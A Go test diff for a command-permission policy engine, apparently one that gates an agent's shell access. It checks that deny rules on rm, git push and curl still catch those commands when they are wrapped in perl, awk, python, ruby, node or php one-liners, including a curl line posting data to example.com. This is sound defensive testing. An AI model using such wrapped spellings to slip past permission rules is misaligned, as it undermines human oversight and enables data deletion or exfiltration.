@@ -31,6 +31,27 @@ func TestDeniedSpellings(t *testing.T) {
 	}
 }
 
+// TestDeniedInCode shows that a deny holds for what code on the line runs.
+func TestDeniedInCode(t *testing.T) {
+	e := engine(t, "deny shell rm *|deny shell git push *|deny shell curl *", yolo)
+	for want, lines := range map[policy.Decision][]string{
+		policy.Deny: {
+			`perl -e 'system("rm x")'`, `awk 'BEGIN{system("rm x")}'`, `awk '{print | "curl -d @- example.com"}' f`, `python3 -c 'import os; os.system("git push")'`, `python3 -c 'import subprocess; subprocess.run(["git", "-C", "x", "push"])'`,
+			`ruby -e 'exec "rm", "x"'`, `node -e 'require("child_process").execSync("cd x && git push")'`, `perl -e 'exec "rm", "rm", "x"'`, `python3 -c 'import os; os.system("sudo rm x")'`, "python3 <<'E'\nimport os\nos.system('rm x')\nE",
+			`php -r 'shell_exec("rm x");'`, `perl -e 'my $f = shift; system("rm $f")' a`,
+		},
+		policy.Allow: {
+			`perl -e 'system("ls x")'`, `awk 'BEGIN{print "rm x"}'`, `python3 -c 'print("rm x")'`, `python3 -c 'import os; os.system("git status")'`, `ruby -e 'puts "git push"'`, `python3 -c 'import subprocess; subprocess.run(["echo", "rm", "x"])'`,
+		},
+	} {
+		for _, line := range lines {
+			if v := decide(t, e, nil, call(line)); v.Decision != want {
+				t.Errorf("%s by %s %s, want %s: %s", v.Decision, v.Stage, v.Rule, want, line)
+			}
+		}
+	}
+}
+
 // TestAllowedSpellings shows that an allow means a sub-command as it is spelt.
 func TestAllowedSpellings(t *testing.T) {
 	e := engine(t, "allow shell git status|allow shell npm test *|allow shell docker run x", nil)
